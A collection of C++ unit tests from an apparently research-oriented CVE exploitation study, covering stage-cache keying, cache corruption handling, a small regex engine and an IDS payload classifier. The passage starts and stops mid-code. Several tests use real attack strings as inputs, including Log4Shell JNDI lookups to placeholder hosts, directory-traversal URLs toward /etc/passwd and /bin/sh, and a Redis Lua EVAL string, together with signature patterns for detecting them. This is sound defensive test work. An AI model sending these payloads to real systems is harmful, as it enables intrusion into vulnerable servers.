  for (const auto& verdict : rec.rca.verdicts) {
    out << verdict.cve_id << ' ' << (verdict.kept ? 1 : 0) << '\n';
  }
  for (const auto& [cve_id, cve] : rec.per_cve) {
    out << cve_id << ' ' << cve.exploit_events << ' ' << cve.untargeted_sessions << ' ';
    put_time(out, cve.first_attack);
    out << '\n';
  }
  for (const auto& event : rec.events) {
    out << event.cve_id << ' ';
    put_time(out, event.time);
    out << ' ' << event.src << ' ' << event.sid << '\n';
  }
  for (const auto& tl : rec.timelines) {
    out << tl.cve_id();
    for (const auto event : lifecycle::kAllEvents) {
      out << ' ';
      if (const auto t = tl.at(event)) {
        out << t->unix_seconds();
      } else {
        out << '-';
      }
    }
    out << '\n';
  }

  for (const auto* table : {&r.table4, &r.table5}) {
    out << "table\n";
    for (const auto& row : table->rows) {
      out << row.desideratum << ' ' << row.satisfied << ' ' << row.baseline << ' ' << row.skill
          << ' ' << row.evaluated << '\n';
    }
  }
  out << "exposure\n";
  for (const double d : r.exposure.mitigated_days) out << d << ' ';
  out << '\n';
  for (const double d : r.exposure.unmitigated_days) out << d << ' ';
  out << '\n';
  out << "unique " << r.unique_telescope_ips << ' ' << r.unique_source_ips << '\n';
  return out.str();
}

}  // namespace cvewb::pipeline::test_support
