// Golden cache equivalence: run_study with a cache directory -- cold
// (populating), warm (fully served), warm at a different thread count --
// must produce StudyResults byte-identical to a cache-disabled run, for
// every tested seed.  And a corrupted cache entry must degrade to a
// recompute (logged via the cache/corrupt metric) with, again, an
// identical result.  This is the proof obligation behind enabling
// `--cache-dir` by default in sweeps (DESIGN.md, "Stage cache").
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "cache/store.h"
#include "obs/observability.h"
#include "pipeline/study.h"
#include "util/sha256.h"

#include "../support/study_serialize.h"

namespace cvewb::pipeline {
namespace {

namespace fs = std::filesystem;
using test_support::serialize_study;

StudyConfig small_config(std::uint64_t seed, int threads, const std::string& cache_dir) {
  StudyConfig config;
  config.seed = seed;
  config.threads = threads;
  config.event_scale = 0.03;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 10;
  config.pool_size = 50000;
  config.cache_dir = cache_dir;
  // An active fault plan exercises the faults stage's codec and key too.
  config.faults.blackout_count = 2;
  config.faults.blackout_duration = util::Duration::hours(12);
  config.faults.session_loss_rate = 0.03;
  config.faults.snaplen = 300;
  config.faults.corruption_rate = 0.02;
  config.faults.duplication_rate = 0.04;
  config.faults.reorder_rate = 0.05;
  config.faults.clock_skew_max = util::Duration::minutes(10);
  config.faults.lanes = 10;
  return config;
}

fs::path fresh_dir(const std::string& tag) {
  const fs::path dir = fs::path(::testing::TempDir()) / "cvewb_cache_golden" / tag;
  fs::remove_all(dir);
  return dir;
}

class CacheGolden : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(CacheGolden, ColdWarmAndDisabledRunsAreByteIdentical) {
  const std::uint64_t seed = GetParam();
  const fs::path dir = fresh_dir("seed_" + std::to_string(seed));

  // Reference: caching disabled (today's always-recompute behavior).
  const std::string reference =
      serialize_study(run_study(small_config(seed, 1, "")));

  // Cold run populates the cache; its bytes must not change.
  const std::string cold =
      serialize_study(run_study(small_config(seed, 1, dir.string())));
  EXPECT_EQ(util::sha256_hex(reference), util::sha256_hex(cold));
  ASSERT_EQ(reference, cold);
  EXPECT_GT(cache::CacheStore::stat_dir(dir).entries, 0u);

  // Warm run serves every stage from disk; bytes still identical.
  obs::Observability warm_obs;
  auto warm_config = small_config(seed, 1, dir.string());
  warm_config.observability = &warm_obs;
  const std::string warm = serialize_study(run_study(warm_config));
  ASSERT_EQ(reference, warm);
  const auto counters = warm_obs.metrics.snapshot().counters;
  EXPECT_GE(counters.at("cache/hit"), 3u);  // traffic, faults, reconstruct
  EXPECT_EQ(counters.count("cache/corrupt"), 0u);

  // Warm run at a different thread count: cached artifacts computed at
  // threads=1 serve a threads=4 run (thread count is deliberately not
  // keyed; the engine is thread-count-deterministic).
  const std::string warm_parallel =
      serialize_study(run_study(small_config(seed, 4, dir.string())));
  ASSERT_EQ(reference, warm_parallel);

  fs::remove_all(dir);
}

INSTANTIATE_TEST_SUITE_P(Seeds, CacheGolden, ::testing::Values(11ULL, 5081ULL, 900913ULL),
                         [](const auto& info) { return "seed_" + std::to_string(info.param); });

TEST(CacheGoldenCorruption, CorruptEntriesDegradeToIdenticalRecompute) {
  const std::uint64_t seed = 5081;
  const fs::path dir = fresh_dir("corruption");

  const std::string reference = serialize_study(run_study(small_config(seed, 1, "")));
  ASSERT_EQ(reference, serialize_study(run_study(small_config(seed, 1, dir.string()))));

  // Truncate every cached entry: every stage now sees a corrupt file.
  std::size_t corrupted = 0;
  for (const auto& entry : fs::recursive_directory_iterator(dir)) {
    if (!entry.is_regular_file()) continue;
    fs::resize_file(entry.path(), entry.file_size() / 3);
    ++corrupted;
  }
  ASSERT_GT(corrupted, 0u);

  obs::Observability observability;
  auto config = small_config(seed, 1, dir.string());
  config.observability = &observability;
  const std::string recomputed = serialize_study(run_study(config));
  ASSERT_EQ(reference, recomputed);

  const auto counters = observability.metrics.snapshot().counters;
  EXPECT_GE(counters.at("cache/corrupt"), 1u);

  // The recompute re-put every stage; a further warm run hits cleanly.
  obs::Observability warm_obs;
  auto warm_config = small_config(seed, 1, dir.string());
  warm_config.observability = &warm_obs;
  ASSERT_EQ(reference, serialize_study(run_study(warm_config)));
  EXPECT_EQ(warm_obs.metrics.snapshot().counters.count("cache/corrupt"), 0u);

  fs::remove_all(dir);
}

TEST(CacheGoldenCorruption, UnwritableCacheDirectoryStillProducesCorrectResults) {
  // Point the cache at a path that cannot be created (a file stands in the
  // way): every get misses, every put fails, the run still completes with
  // byte-identical output.
  const fs::path blocker = fresh_dir("blocked_parent");
  fs::create_directories(blocker);
  const fs::path file_in_the_way = blocker / "not_a_directory";
  std::ofstream(file_in_the_way) << "x";

  const std::uint64_t seed = 11;
  const std::string reference = serialize_study(run_study(small_config(seed, 1, "")));
  const std::string blocked = serialize_study(
      run_study(small_config(seed, 1, (file_in_the_way / "cache").string())));
  EXPECT_EQ(reference, blocked);

  fs::remove_all(blocker);
}

}  // namespace
}  // namespace cvewb::pipeline
