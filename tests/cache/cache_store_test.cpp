// CacheStore contract: round-trip storage, corruption-as-miss (truncated,
// bit-flipped, version-skewed, and bad-magic entries all degrade to a
// recompute, never a crash), directory statistics, and garbage collection.
#include "cache/store.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "obs/observability.h"

namespace cvewb::cache {
namespace {

namespace fs = std::filesystem;

/// Fresh cache directory per test, removed on teardown.
class CacheStoreTest : public ::testing::Test {
 protected:
  void SetUp() override {
    const auto* info = ::testing::UnitTest::GetInstance()->current_test_info();
    dir_ = fs::path(::testing::TempDir()) / "cvewb_cache_test" / info->name();
    fs::remove_all(dir_);
  }
  void TearDown() override { fs::remove_all(dir_); }

  /// Locate the single on-disk entry file (tests store one entry).
  fs::path only_entry_file() const {
    std::vector<fs::path> files;
    for (const auto& entry : fs::recursive_directory_iterator(dir_)) {
      if (entry.is_regular_file()) files.push_back(entry.path());
    }
    EXPECT_EQ(files.size(), 1u);
    return files.empty() ? fs::path() : files.front();
  }

  fs::path dir_;
};

constexpr char kKey[] = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

TEST_F(CacheStoreTest, RoundTripsPayloads) {
  CacheStore store(dir_);
  EXPECT_FALSE(store.get(kKey, "test").has_value());
  EXPECT_EQ(store.stats().misses, 1u);

  const std::string payload = "stage artifact bytes \0 with embedded nul";
  ASSERT_TRUE(store.put(kKey, payload, "test"));
  const auto fetched = store.get(kKey, "test");
  ASSERT_TRUE(fetched.has_value());
  EXPECT_EQ(*fetched, payload);
  EXPECT_EQ(store.stats().hits, 1u);
  EXPECT_EQ(store.stats().bytes_written, payload.size());
  EXPECT_EQ(store.stats().bytes_read, payload.size());

  // A second store against the same directory sees the entry (persistence).
  CacheStore reopened(dir_);
  const auto refetched = reopened.get(kKey, "test");
  ASSERT_TRUE(refetched.has_value());
  EXPECT_EQ(*refetched, payload);
}

TEST_F(CacheStoreTest, EmptyPayloadRoundTrips) {
  CacheStore store(dir_);
  ASSERT_TRUE(store.put(kKey, "", "test"));
  const auto fetched = store.get(kKey, "test");
  ASSERT_TRUE(fetched.has_value());
  EXPECT_TRUE(fetched->empty());
}

TEST_F(CacheStoreTest, OverwriteReplacesEntry) {
  CacheStore store(dir_);
  ASSERT_TRUE(store.put(kKey, "first", "test"));
  ASSERT_TRUE(store.put(kKey, "second", "test"));
  const auto fetched = store.get(kKey, "test");
  ASSERT_TRUE(fetched.has_value());
  EXPECT_EQ(*fetched, "second");
}

TEST_F(CacheStoreTest, TruncatedEntryIsACountedMiss) {
  CacheStore store(dir_);
  ASSERT_TRUE(store.put(kKey, std::string(4096, 'x'), "test"));
  const fs::path file = only_entry_file();
  fs::resize_file(file, fs::file_size(file) / 2);

  EXPECT_FALSE(store.get(kKey, "test").has_value());
  EXPECT_EQ(store.stats().corrupt, 1u);

  // Re-putting heals the entry.
  ASSERT_TRUE(store.put(kKey, "healed", "test"));
  const auto fetched = store.get(kKey, "test");
  ASSERT_TRUE(fetched.has_value());
  EXPECT_EQ(*fetched, "healed");
}

TEST_F(CacheStoreTest, FlippedPayloadByteFailsTheDigest) {
  CacheStore store(dir_);
  ASSERT_TRUE(store.put(kKey, std::string(1024, 'y'), "test"));
  const fs::path file = only_entry_file();
  {
    std::fstream f(file, std::ios::in | std::ios::out | std::ios::binary);
    f.seekp(-1, std::ios::end);  // last payload byte
    f.put('Z');
  }
  EXPECT_FALSE(store.get(kKey, "test").has_value());
  EXPECT_EQ(store.stats().corrupt, 1u);
}

TEST_F(CacheStoreTest, BadMagicAndHeaderGarbageAreCountedMisses) {
  CacheStore store(dir_);
  ASSERT_TRUE(store.put(kKey, "payload", "test"));
  const fs::path file = only_entry_file();
  {
    std::fstream f(file, std::ios::in | std::ios::out | std::ios::binary);
    f.seekp(0);
    f.write("JUNK", 4);  // clobber the magic
  }
  EXPECT_FALSE(store.get(kKey, "test").has_value());
  EXPECT_EQ(store.stats().corrupt, 1u);

  // A file shorter than any valid header.
  {
    std::ofstream f(file, std::ios::binary | std::ios::trunc);
    f << "x";
  }
  EXPECT_FALSE(store.get(kKey, "test").has_value());
  EXPECT_EQ(store.stats().corrupt, 2u);
}

TEST_F(CacheStoreTest, StatDirCountsEntriesAndCorruption) {
  EXPECT_EQ(CacheStore::stat_dir(dir_ / "does_not_exist").entries, 0u);

  CacheStore store(dir_);
  ASSERT_TRUE(store.put(kKey, std::string(100, 'a'), "test"));
  std::string other_key(kKey);
  other_key[0] = 'f';
  other_key[1] = 'e';
  ASSERT_TRUE(store.put(other_key, std::string(200, 'b'), "test"));

  auto stat = CacheStore::stat_dir(dir_);
  EXPECT_EQ(stat.entries, 2u);
  EXPECT_EQ(stat.payload_bytes, 300u);
  EXPECT_GT(stat.file_bytes, stat.payload_bytes);  // headers included
  EXPECT_EQ(stat.corrupt, 0u);

  // Corrupt one entry; stat reclassifies it.
  for (const auto& entry : fs::recursive_directory_iterator(dir_)) {
    if (!entry.is_regular_file()) continue;
    fs::resize_file(entry.path(), 3);
    break;
  }
  stat = CacheStore::stat_dir(dir_);
  EXPECT_EQ(stat.entries, 1u);
  EXPECT_EQ(stat.corrupt, 1u);
}

TEST_F(CacheStoreTest, GcRemovesCorruptAndEvictsToBudget) {
  CacheStore store(dir_);
  // Three entries with distinct fanout shards.
  std::vector<std::string> keys;
  for (char c : {'a', 'b', 'c'}) {
    std::string key(kKey);
    key[0] = c;
    keys.push_back(key);
    ASSERT_TRUE(store.put(key, std::string(1000, c), "test"));
  }
  // Corrupt the middle entry.
  std::size_t seen = 0;
  for (const auto& entry : fs::recursive_directory_iterator(dir_)) {
    if (!entry.is_regular_file()) continue;
    if (++seen == 2) fs::resize_file(entry.path(), 5);
  }

  // A generous budget removes only the corrupt file.
  const auto pass1 = CacheStore::gc(dir_, 1u << 30);
  EXPECT_EQ(pass1.corrupt_removed, 1u);
  EXPECT_EQ(pass1.removed, 1u);
  EXPECT_EQ(pass1.kept, 2u);

  // keep_bytes = 0 clears everything.
  const auto pass2 = CacheStore::gc(dir_, 0);
  EXPECT_EQ(pass2.removed, 2u);
  EXPECT_EQ(pass2.kept, 0u);
  EXPECT_EQ(CacheStore::stat_dir(dir_).entries, 0u);
}

TEST_F(CacheStoreTest, ExportsHitMissCorruptMetrics) {
  obs::Observability observability;
  CacheStore store(dir_, &observability);
  EXPECT_FALSE(store.get(kKey, "traffic").has_value());       // miss
  ASSERT_TRUE(store.put(kKey, "payload bytes", "traffic"));   // bytes
  ASSERT_TRUE(store.get(kKey, "traffic").has_value());        // hit
  const fs::path file = only_entry_file();
  fs::resize_file(file, 2);
  EXPECT_FALSE(store.get(kKey, "traffic").has_value());       // corrupt

  const auto snapshot = observability.metrics.snapshot();
  EXPECT_EQ(snapshot.counters.at("cache/hit"), 1u);
  EXPECT_GE(snapshot.counters.at("cache/miss"), 1u);
  EXPECT_EQ(snapshot.counters.at("cache/corrupt"), 1u);
  EXPECT_GT(snapshot.counters.at("cache/bytes"), 0u);
}

}  // namespace
}  // namespace cvewb::cache
