// Cache-key sensitivity: every config field a stage consumes must change
// that stage's key (stale artifacts can never be served), and fields that
// cannot influence the artifact bytes -- threads, observability, the cache
// directory itself -- must leave every key unchanged (an artifact computed
// at threads=8 serves a threads=1 run; the engine is thread-count-
// deterministic, so that reuse is sound).
#include "cache/key.h"

#include <gtest/gtest.h>

#include <functional>
#include <string>
#include <vector>

#include "chaos/fs_shim.h"
#include "obs/observability.h"
#include "pipeline/study.h"
#include "util/cancel.h"
#include "util/thread_pool.h"

namespace cvewb::cache {
namespace {

using pipeline::ReconstructOptions;
using pipeline::StudyConfig;

// ---------------------------------------------------------------- traffic

struct ConfigMutation {
  const char* name;
  std::function<void(StudyConfig&)> apply;
};

class TrafficKeySensitive : public ::testing::TestWithParam<ConfigMutation> {};

TEST_P(TrafficKeySensitive, KeyedFieldChangesTheKey) {
  StudyConfig base;
  StudyConfig mutated;
  GetParam().apply(mutated);
  EXPECT_NE(traffic_stage_key(base), traffic_stage_key(mutated)) << GetParam().name;
}

INSTANTIATE_TEST_SUITE_P(
    KeyedFields, TrafficKeySensitive,
    ::testing::Values(
        ConfigMutation{"seed", [](StudyConfig& c) { c.seed += 1; }},
        ConfigMutation{"event_scale", [](StudyConfig& c) { c.event_scale = 0.5; }},
        ConfigMutation{"background_per_day", [](StudyConfig& c) { c.background_per_day = 7; }},
        ConfigMutation{"credstuff_per_day", [](StudyConfig& c) { c.credstuff_per_day = 9; }},
        ConfigMutation{"telescope_lanes", [](StudyConfig& c) { c.telescope_lanes = 17; }},
        ConfigMutation{"pool_size", [](StudyConfig& c) { c.pool_size = 1234; }}),
    [](const auto& info) { return std::string(info.param.name); });

class TrafficKeyInsensitive : public ::testing::TestWithParam<ConfigMutation> {};

TEST_P(TrafficKeyInsensitive, UnkeyedFieldLeavesTheKeyUnchanged) {
  StudyConfig base;
  StudyConfig mutated;
  GetParam().apply(mutated);
  EXPECT_EQ(traffic_stage_key(base), traffic_stage_key(mutated)) << GetParam().name;
  // The unkeyed fields must not leak into any downstream key either.
  EXPECT_EQ(faults_stage_key(base, "up"), faults_stage_key(mutated, "up")) << GetParam().name;
  // Nor into the run identity: a resumed run must adopt checkpoints from a
  // run that differed only in execution knobs.
  EXPECT_EQ(run_key(base), run_key(mutated)) << GetParam().name;
}

obs::Observability g_observability;
util::CancelToken g_cancel_token;
chaos::FsShim g_fs_shim;

INSTANTIATE_TEST_SUITE_P(
    UnkeyedFields, TrafficKeyInsensitive,
    ::testing::Values(
        ConfigMutation{"threads", [](StudyConfig& c) { c.threads = 4; }},
        ConfigMutation{"threads_hw", [](StudyConfig& c) { c.threads = 0; }},
        ConfigMutation{"observability",
                       [](StudyConfig& c) { c.observability = &g_observability; }},
        ConfigMutation{"cache_dir", [](StudyConfig& c) { c.cache_dir = "/tmp/some/cache"; }},
        ConfigMutation{"store_dir", [](StudyConfig& c) { c.store_dir = "/tmp/some/store"; }},
        ConfigMutation{"cancel", [](StudyConfig& c) { c.cancel = &g_cancel_token; }},
        // Stage scheduling is pure execution order: the DAG and the
        // barrier sequence produce byte-identical artifacts, so an
        // artifact computed either way serves both.
        ConfigMutation{"stage_dag", [](StudyConfig& c) { c.stage_dag = false; }},
        ConfigMutation{"stage_deadline",
                       [](StudyConfig& c) { c.stage_deadline = std::chrono::milliseconds(5000); }},
        ConfigMutation{"io_retry", [](StudyConfig& c) { c.io_retry.max_retries = 7; }},
        ConfigMutation{"fs_shim", [](StudyConfig& c) { c.fs_shim = &g_fs_shim; }},
        ConfigMutation{"chaos_cancel_after_stage",
                       [](StudyConfig& c) { c.chaos_cancel_after_stage = "traffic"; }}),
    [](const auto& info) { return std::string(info.param.name); });

// ------------------------------------------------------------------- run

TEST(RunKey, ResultShapingFieldsAreKeyed) {
  StudyConfig base;
  const auto mutate = [](const std::function<void(StudyConfig&)>& apply) {
    StudyConfig mutated;
    apply(mutated);
    return run_key(mutated);
  };
  EXPECT_NE(run_key(base), mutate([](StudyConfig& c) { c.seed += 1; }));
  EXPECT_NE(run_key(base), mutate([](StudyConfig& c) { c.event_scale = 0.5; }));
  EXPECT_NE(run_key(base), mutate([](StudyConfig& c) { c.faults.session_loss_rate = 0.25; }));
  EXPECT_NE(run_key(base), mutate([](StudyConfig& c) { c.reconstruct.dedup = false; }));
  EXPECT_NE(run_key(base), mutate([](StudyConfig& c) {
              c.reconstruct.deployment_delay = util::Duration::hours(24);
            }));
}

// ----------------------------------------------------------------- faults

class FaultsKeySensitive : public ::testing::TestWithParam<ConfigMutation> {};

TEST_P(FaultsKeySensitive, KeyedFieldChangesTheKey) {
  StudyConfig base;
  StudyConfig mutated;
  GetParam().apply(mutated);
  EXPECT_NE(faults_stage_key(base, "up"), faults_stage_key(mutated, "up")) << GetParam().name;
}

INSTANTIATE_TEST_SUITE_P(
    KeyedFields, FaultsKeySensitive,
    ::testing::Values(
        ConfigMutation{"seed", [](StudyConfig& c) { c.seed += 1; }},
        ConfigMutation{"lanes", [](StudyConfig& c) { c.faults.lanes = 99; }},
        ConfigMutation{"blackout_count", [](StudyConfig& c) { c.faults.blackout_count = 3; }},
        ConfigMutation{"blackout_duration",
                       [](StudyConfig& c) { c.faults.blackout_duration = util::Duration(60); }},
        ConfigMutation{"session_loss_rate",
                       [](StudyConfig& c) { c.faults.session_loss_rate = 0.5; }},
        ConfigMutation{"snaplen", [](StudyConfig& c) { c.faults.snaplen = 128; }},
        ConfigMutation{"corruption_rate", [](StudyConfig& c) { c.faults.corruption_rate = 0.1; }},
        ConfigMutation{"corruption_byte_fraction",
                       [](StudyConfig& c) { c.faults.corruption_byte_fraction = 0.9; }},
        ConfigMutation{"duplication_rate",
                       [](StudyConfig& c) { c.faults.duplication_rate = 0.2; }},
        ConfigMutation{"reorder_rate", [](StudyConfig& c) { c.faults.reorder_rate = 0.3; }},
        ConfigMutation{"reorder_max_displacement",
                       [](StudyConfig& c) { c.faults.reorder_max_displacement = 77; }},
        ConfigMutation{"clock_skew_max",
                       [](StudyConfig& c) { c.faults.clock_skew_max = util::Duration(5); }}),
    [](const auto& info) { return std::string(info.param.name); });

TEST(FaultsKey, UpstreamDigestIsKeyed) {
  StudyConfig config;
  EXPECT_NE(faults_stage_key(config, "digest-a"), faults_stage_key(config, "digest-b"));
}

// ------------------------------------------------- ids / reconstruct

struct OptionsMutation {
  const char* name;
  std::function<void(ReconstructOptions&)> apply;
};

class MatchKeySensitive : public ::testing::TestWithParam<OptionsMutation> {};

TEST_P(MatchKeySensitive, KeyedFieldChangesBothStageKeys) {
  ReconstructOptions base;
  ReconstructOptions mutated;
  GetParam().apply(mutated);
  EXPECT_NE(ids_stage_key(base, "up", "rs"), ids_stage_key(mutated, "up", "rs"))
      << GetParam().name;
  EXPECT_NE(reconstruct_stage_key(base, "up", "rs"), reconstruct_stage_key(mutated, "up", "rs"))
      << GetParam().name;
}

INSTANTIATE_TEST_SUITE_P(
    KeyedFields, MatchKeySensitive,
    ::testing::Values(
        OptionsMutation{"port_insensitive",
                        [](ReconstructOptions& o) { o.port_insensitive = false; }},
        OptionsMutation{"dedup", [](ReconstructOptions& o) { o.dedup = false; }},
        OptionsMutation{"window_begin",
                        [](ReconstructOptions& o) { o.window_begin = util::TimePoint(1000); }},
        OptionsMutation{"window_end",
                        [](ReconstructOptions& o) { o.window_end = util::TimePoint(2000); }}),
    [](const auto& info) { return std::string(info.param.name); });

TEST(MatchKey, DeploymentDelayChangesReconstructButNotIds) {
  // The delay only affects the lifecycle join, so the IDS match vector is
  // reusable across a deployment-delay ablation sweep.
  ReconstructOptions base;
  ReconstructOptions delayed;
  delayed.deployment_delay = util::Duration::hours(24);
  EXPECT_EQ(ids_stage_key(base, "up", "rs"), ids_stage_key(delayed, "up", "rs"));
  EXPECT_NE(reconstruct_stage_key(base, "up", "rs"),
            reconstruct_stage_key(delayed, "up", "rs"));
}

TEST(MatchKey, UpstreamAndRulesetDigestsAreKeyed) {
  ReconstructOptions options;
  EXPECT_NE(ids_stage_key(options, "up-a", "rs"), ids_stage_key(options, "up-b", "rs"));
  EXPECT_NE(ids_stage_key(options, "up", "rs-a"), ids_stage_key(options, "up", "rs-b"));
  EXPECT_NE(reconstruct_stage_key(options, "up-a", "rs"),
            reconstruct_stage_key(options, "up-b", "rs"));
  EXPECT_NE(reconstruct_stage_key(options, "up", "rs-a"),
            reconstruct_stage_key(options, "up", "rs-b"));
}

TEST(MatchKey, ExecutionOnlyOptionsAreUnkeyed) {
  ReconstructOptions base;
  ReconstructOptions mutated;
  util::ThreadPool pool(2);
  mutated.pool = &pool;
  mutated.observability = &g_observability;
  EXPECT_EQ(ids_stage_key(base, "up", "rs"), ids_stage_key(mutated, "up", "rs"));
  EXPECT_EQ(reconstruct_stage_key(base, "up", "rs"),
            reconstruct_stage_key(mutated, "up", "rs"));
}

// ----------------------------------------------------------- structure

TEST(KeyHasher, StagesNeverCollideAndFieldsAreFramed) {
  // Same field bytes under different stage ids must differ.
  StudyConfig config;
  EXPECT_NE(traffic_stage_key(config), faults_stage_key(config, ""));

  // Name/value framing: ("ab", "c") must not alias ("a", "bc").
  KeyHasher a("t");
  a.field("ab", std::string_view("c"));
  KeyHasher b("t");
  b.field("a", std::string_view("bc"));
  EXPECT_NE(a.hex(), b.hex());

  // Type tags: the same 8 bytes as signed vs unsigned must differ.
  KeyHasher u("t");
  u.field("x", std::uint64_t{5});
  KeyHasher i("t");
  i.field("x", std::int64_t{5});
  EXPECT_NE(u.hex(), i.hex());
}

TEST(KeyHasher, KeysAreStableAcrossProcesses) {
  // A fixed config must hash to the same key in every run and process --
  // content addressing would silently never hit otherwise.  This also
  // freezes kCacheSchemaVersion=1 key derivation: if this test starts
  // failing, the schema version must be bumped, not the expectation.
  StudyConfig config;
  config.seed = 42;
  const std::string key = traffic_stage_key(config);
  EXPECT_EQ(key.size(), 64u);
  EXPECT_EQ(key, traffic_stage_key(config));
}

}  // namespace
}  // namespace cvewb::cache
