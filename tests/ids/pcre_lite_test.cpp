#include "ids/pcre_lite.h"

#include <gtest/gtest.h>

#include <regex>

#include "util/rng.h"

namespace cvewb::ids {
namespace {

bool matches(const char* pattern, const char* text, const char* flags = "") {
  const auto regex = Regex::compile(pattern, flags);
  EXPECT_TRUE(regex.has_value()) << pattern;
  return regex && regex->search(text);
}

TEST(PcreLite, Literals) {
  EXPECT_TRUE(matches("jndi", "x ${jndi:ldap}"));
  EXPECT_FALSE(matches("jndi", "nothing"));
  EXPECT_TRUE(matches("", "anything"));
}

TEST(PcreLite, CaseFlag) {
  EXPECT_FALSE(matches("jndi", "JNDI"));
  EXPECT_TRUE(matches("jndi", "JNDI", "i"));
  EXPECT_TRUE(matches("[a-f]+", "ABC", "i"));
}

TEST(PcreLite, DotAndDotall) {
  EXPECT_TRUE(matches("a.c", "abc"));
  EXPECT_FALSE(matches("a.c", "a\nc"));
  EXPECT_TRUE(matches("a.c", "a\nc", "s"));
}

TEST(PcreLite, EscapesAndClasses) {
  EXPECT_TRUE(matches(R"(\d{4}-\d{4,7})", "CVE-2021-44228"));
  EXPECT_TRUE(matches(R"(\$\{jndi)", "${jndi:ldap"));
  EXPECT_TRUE(matches(R"([\w.]+@[\w.]+)", "mail bob.smith@example.com"));
  EXPECT_TRUE(matches(R"([^a-z]+)", "123"));
  EXPECT_FALSE(matches(R"(^[^a-z]+$)", "abc"));
  EXPECT_TRUE(matches(R"(\x41\x42)", "xAB"));
}

TEST(PcreLite, Quantifiers) {
  EXPECT_TRUE(matches("ab*c", "ac"));
  EXPECT_TRUE(matches("ab*c", "abbbc"));
  EXPECT_FALSE(matches("ab+c", "ac"));
  EXPECT_TRUE(matches("ab?c", "abc"));
  EXPECT_TRUE(matches("a{3}", "caaab"));
  EXPECT_FALSE(matches("a{4}", "aaa"));
  EXPECT_TRUE(matches("a{2,}", "aaaa"));
  EXPECT_FALSE(matches("^a{2,3}$", "aaaa"));
}

TEST(PcreLite, Anchors) {
  EXPECT_TRUE(matches("^GET ", "GET / HTTP/1.1"));
  EXPECT_FALSE(matches("^ET ", "GET / HTTP/1.1"));
  EXPECT_TRUE(matches("1$", "HTTP/1.1"));
  EXPECT_FALSE(matches("^$", "x"));
  EXPECT_TRUE(matches("^$", ""));
}

TEST(PcreLite, GroupsAndAlternation) {
  EXPECT_TRUE(matches("(jndi|lower|upper)", "${lower:j}"));
  EXPECT_TRUE(matches("(ab)+c", "ababc"));
  EXPECT_FALSE(matches("^(ab)+c$", "abac"));
  EXPECT_TRUE(matches("(?:%7b|\\{)(jndi|upper)", "x$%7Bupper", "i"));
  EXPECT_TRUE(matches("a(b|c)*d", "abcbcd"));
}

TEST(PcreLite, SnortStyleSignaturePatterns) {
  // Realistic signature shapes.
  EXPECT_TRUE(matches(R"(\$\{(jndi|[a-z]+:j)\w*)", "${jndi:ldap://x/a}"));
  EXPECT_TRUE(matches(R"(/cgi-bin/(\.%2e|%2e%2e)/)", "/cgi-bin/.%2e/%2e%2e/bin/sh", "i"));
  EXPECT_TRUE(matches(R"(class\.module\.classLoader)", "class.module.classLoader.resources"));
  EXPECT_FALSE(matches(R"(^\$\{jndi)", "prefix ${jndi"));
}

TEST(PcreLite, CompileErrors) {
  EXPECT_FALSE(Regex::compile("(unclosed").has_value());
  EXPECT_FALSE(Regex::compile("unopened)").has_value());
  EXPECT_FALSE(Regex::compile("*leading").has_value());
  EXPECT_FALSE(Regex::compile("[unclosed").has_value());
  EXPECT_FALSE(Regex::compile("a{,}").has_value());
  EXPECT_FALSE(Regex::compile("a\\").has_value());
  EXPECT_FALSE(Regex::compile("a", "z").has_value());
  EXPECT_FALSE(Regex::compile("^*").has_value());
}

TEST(PcreLite, AgreesWithStdRegexOnRandomInputs) {
  // Property test against std::regex (ECMAScript) as an oracle for a
  // shared-subset pattern.
  const char* pattern = "(a|bc)+d?[xy]{2}";
  const auto mine = Regex::compile(pattern);
  ASSERT_TRUE(mine.has_value());
  const std::regex oracle(pattern);
  util::Rng rng(1234);
  const std::string alphabet = "abcdxy";
  for (int trial = 0; trial < 500; ++trial) {
    std::string text;
    const int len = static_cast<int>(rng.uniform_int(0, 12));
    for (int i = 0; i < len; ++i) text.push_back(alphabet[rng.uniform_u64(alphabet.size())]);
    EXPECT_EQ(mine->search(text), std::regex_search(text, oracle)) << text;
  }
}

TEST(PcreOption, ParsesPatternFlagsAndBuffer) {
  const auto uri = parse_pcre_option("/\\$\\{jndi/Ui");
  ASSERT_TRUE(uri.has_value());
  EXPECT_EQ(uri->buffer_flag, 'U');
  EXPECT_TRUE(uri->regex.search("/?x=${JNDI:ldap"));

  const auto raw = parse_pcre_option("/EVAL.+luaopen/s");
  ASSERT_TRUE(raw.has_value());
  EXPECT_EQ(raw->buffer_flag, 0);
}

TEST(PcreOption, Rejected) {
  EXPECT_FALSE(parse_pcre_option("no-slashes").has_value());
  EXPECT_FALSE(parse_pcre_option("/pat/UH").has_value());  // two buffer flags
  EXPECT_FALSE(parse_pcre_option("/pat/q").has_value());
  EXPECT_FALSE(parse_pcre_option("/(bad/").has_value());
}

}  // namespace
}  // namespace cvewb::ids
