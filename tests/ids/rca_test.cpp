#include "ids/rca.h"

#include <gtest/gtest.h>

#include "ids/rule_gen.h"
#include "traffic/payload.h"

namespace cvewb::ids {
namespace {

using util::TimePoint;

net::TcpSession make_session(TimePoint t, std::string payload) {
  net::TcpSession s;
  s.open_time = t;
  s.payload = std::move(payload);
  return s;
}

TEST(Classifier, SeparatesExploitsFromStuffing) {
  const auto classify = default_payload_classifier();
  util::Rng rng(3);
  EXPECT_TRUE(classify("GET /?x=${jndi:ldap://e/a} HTTP/1.1\r\n\r\n"));
  EXPECT_TRUE(classify("GET /..%2f..%2fetc%2fpasswd HTTP/1.1\r\n\r\n"));
  EXPECT_TRUE(classify("EVAL luaopen_os"));
  for (int i = 0; i < 20; ++i) {
    EXPECT_FALSE(classify(traffic::credential_stuffing_payload(rng)));
  }
  EXPECT_FALSE(classify("GET / HTTP/1.1\r\nHost: x\r\n\r\n"));
}

class RcaTest : public ::testing::Test {
 protected:
  RcaTest() {
    exploit_rule_.sid = 1;
    exploit_rule_.cve = "CVE-2021-41773";
    exploit_rule_.published = util::parse_date("2021-10-08");
    broad_rule_ = decoy_broad_rule();
  }

  Rule exploit_rule_;
  Rule broad_rule_;
};

TEST_F(RcaTest, DropsBroadRuleCveOnStuffingTraffic) {
  util::Rng rng(4);
  std::vector<net::TcpSession> sessions;
